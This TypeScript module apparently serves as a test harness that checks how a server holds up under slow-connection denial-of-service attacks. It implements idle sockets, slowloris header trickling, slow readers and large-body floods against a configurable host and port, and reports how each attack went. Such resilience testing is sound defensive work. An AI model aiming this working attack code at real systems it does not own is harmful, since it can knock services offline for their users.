import { connect, type Socket } from 'node:net';

/** What became of connections that mean no good. */
export interface AttackReport {
  readonly name: string;
  readonly open: number;
  readonly closedByServer: number;
  /** Connections by the status of the answer that they got. */
  readonly statuses: Readonly<Record<string, number>>;
}

export interface Attack {
  report(): AttackReport;
  stop(): void;
}

interface Target {
  readonly host: string;
  readonly port: number;
}

interface Plan {
  readonly name: string;
  readonly count: number;
  /** All of them have been opened in this time. */
  readonly overMs: number;
  /** Does its worst. */
  begin(socket: Socket): void;
}

const TICK_MS = 10;

function attack(target: Target, { name, count, overMs, begin }: Plan): Attack {
  const sockets = new Set<Socket>();
  const statuses: Record<string, number> = {};
  let opened = 0;
  let closed = 0;
  let stopped = false;
  const open = (): void => {
    const socket = connect(target);
    sockets.add(socket);
    socket.once('connect', () => begin(socket));
    socket.once('data', (first) => {
      const status = /^HTTP\/1\.1 (\d+)/.exec(first.toString('latin1'))?.[1] ?? 'no HTTP';
      statuses[status] = (statuses[status] ?? 0) + 1;
    });
    socket.on('error', () => undefined);
    socket.once('close', () => {
      if (!stopped) closed++;
      sockets.delete(socket);
    });
  };
  const timer = setInterval(() => {
    const until = Math.min(count, opened + Math.ceil((count * TICK_MS) / overMs));
    for (; opened < until; opened++) open();
    if (opened === count) clearInterval(timer);
  }, TICK_MS);
  return {
    report: () => ({ name, open: sockets.size, closedByServer: closed, statuses }),
    stop: () => {
      stopped = true;
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** Opens and says nothing. */
export function idle(target: Target, count: number, overMs: number): Attack {
  return attack(target, { name: 'idle', count, overMs, begin: () => undefined });
}

/** Slow loris: a header line every two seconds, and never the last one. */
export function slowHeaders(target: Target, count: number, overMs: number): Attack {
  const begin = (socket: Socket): void => {
    socket.write(`GET / HTTP/1.1\r\nHost: localhost:${target.port}\r\n`);
    const timer = setInterval(() => socket.write('X-More: 1\r\n'), 2000);
    socket.once('close', () => clearInterval(timer));
  };
  return attack(target, { name: 'slow headers', count, overMs, begin });
}

/** Asks for much and reads nothing but the beginning. */
export function slowReaders(target: Target, count: number, overMs: number, path: string): Attack {
  const begin = (socket: Socket): void => {
    socket.once('data', () => socket.pause());
    socket.write(`GET ${path} HTTP/1.1\r\nHost: localhost:${target.port}\r\n\r\n`);
  };
  return attack(target, { name: 'slow readers', count, overMs, begin });
}

const PIECE = Buffer.alloc(256 * 1024, ' ');

/** Sends a body as large as one may be, as fast as it is taken. */
export function largeBodies(target: Target, count: number, overMs: number, sizeBytes: number): Attack {
  const begin = (socket: Socket): void => {
    const head = `POST /_bulk HTTP/1.1\r\nHost: localhost:${target.port}\r\nContent-Type: application/x-ndjson\r\n`;
    socket.write(`${head}Content-Length: ${sizeBytes}\r\n\r\n`);
    let left = sizeBytes;
    const send = (): void => {
      while (left > 0 && !socket.destroyed) {
        const piece = left < PIECE.length ? PIECE.subarray(0, left) : PIECE;
        left -= piece.length;
        if (!socket.write(piece)) {
          socket.once('drain', send);
          return;
        }
      }
    };
    send();
  };
  return attack(target, { name: 'large bodies', count, overMs, begin });
}
